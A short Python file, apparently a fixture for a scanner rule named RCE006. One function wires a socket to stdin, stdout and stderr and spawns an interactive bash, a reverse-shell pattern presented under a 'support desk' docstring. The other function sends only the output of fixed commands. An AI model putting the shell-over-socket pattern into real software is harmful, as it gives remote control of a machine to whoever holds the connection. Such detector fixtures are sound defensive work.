import os
import pty
import socket
import subprocess


def attach_shell(sock: socket.socket) -> None:
    """Give the support desk an interactive shell on this machine."""
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    pty.spawn(["/bin/bash", "-i"])  # expect: RCE006


def send_report(sock: socket.socket) -> None:
    """System facts for the ticket: commands of our own, only their output goes to the desk."""
    for cmd in (["uname", "-a"], ["df", "-h"], ["/bin/sh", "-c", "uptime"]):
        subprocess.run(cmd, stdout=sock.fileno(), stderr=subprocess.STDOUT, check=False)
